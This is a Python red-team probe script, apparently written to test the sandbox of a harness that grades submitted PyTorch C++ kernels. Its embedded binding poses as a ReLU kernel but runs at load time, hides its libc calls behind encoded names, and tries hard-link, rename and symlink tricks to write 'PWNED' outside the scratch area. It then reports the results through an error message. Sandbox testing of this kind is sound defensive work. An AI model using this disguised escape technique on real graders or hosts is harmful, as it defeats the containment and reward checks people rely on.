"""h1: a hard link (or rename) from outside into scratch, then a write through it: Landlock checks a
write by the path it is opened through, so a link in scratch to a host file would be a write escape.
Targets only a canary file this script owns (/tmp/redteam-r7/canary.txt) for writes; /work/main's
pyproject.toml only for the link attempt. Reports errnos by raising. MODE: probe."""
import sys
from common import *
BINDING = r'''
#include "binding_registry.h"
#include <cstdint>
#include <string>
extern "C" void relu_kernel(const float* x, float* y, int64_t n);
RESOLVER
using Open = int (*)(const char*, int, ...); using Write = long (*)(int, const void*, unsigned long);
using Close = int (*)(int); using Link = int (*)(const char*, const char*); using Errno = int* (*)();
using Getenv = char* (*)(const char*); using Symlink = int (*)(const char*, const char*); using Rename = int (*)(const char*, const char*);
static std::string g_log;
static void probe() {
  auto p_open = (Open)resolve("OPEN_"); auto p_write = (Write)resolve("WRITE_"); auto p_close = (Close)resolve("CLOSE_");
  auto p_link = (Link)resolve("LINK_"); auto p_errno = (Errno)resolve("ERRNO_"); auto p_getenv = (Getenv)resolve("GETENV_");
  auto p_symlink = (Symlink)resolve("SYMLINK_"); auto p_rename = (Rename)resolve("RENAME_");
  char home_k[5] = {'H','O','M','E',0}; std::string home = p_getenv(home_k);
  auto rc = [&](const char* what, int r) { g_log += std::string(what) + "=" + std::to_string(r) + (r < 0 ? "/" + std::to_string(*p_errno()) : std::string()) + ";"; };
  rc("link_canary", p_link("/tmp/redteam-r7/canary.txt", (home + "/l1").c_str()));
  rc("link_project", p_link("/work/main/pyproject.toml", (home + "/l2").c_str()));
  rc("rename_canary", p_rename("/tmp/redteam-r7/canary.txt", (home + "/l3").c_str()));
  rc("symlink", p_symlink("/tmp/redteam-r7/canary.txt", (home + "/s1").c_str()));
  int f = p_open((home + "/s1").c_str(), 1 | 02000); rc("open_symlink_w", f); if (f >= 0) { p_write(f, "X", 1); p_close(f); }
  f = p_open((home + "/l1").c_str(), 1 | 02000); rc("open_link_w", f); if (f >= 0) { rc("write", (int)p_write(f, "PWNED\n", 6)); p_close(f); }
}
static int g_done = (probe(), 1);
at::Tensor relu_forward(const at::Tensor& x) { TORCH_CHECK(false, "RT7H1 ", g_log); return x; }
REGISTER_BINDING(relu, relu_forward)
'''.replace("RESOLVER", RESOLVER)
for k, v in {"OPEN_": "open", "WRITE_": "write", "CLOSE_": "close", "LINK_": "link", "ERRNO_": "__errno_location",
             "GETENV_": "getenv", "SYMLINK_": "symlink", "RENAME_": "rename"}.items():
    BINDING = BINDING.replace('"%s"' % k, '"%s"' % enc(v))
res = run("h1_link_escape_probe", RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": BINDING}, note="probe")
import re
m = re.search(r"RT7H1 ([^\n]*)", res.reason or "")
record(name="h1_link_escape_probe_summary", reward=res.reward, probe=m.group(1) if m else None,
       canary=open("/tmp/redteam-r7/canary.txt").read() if os.path.exists("/tmp/redteam-r7/canary.txt") else "MOVED")
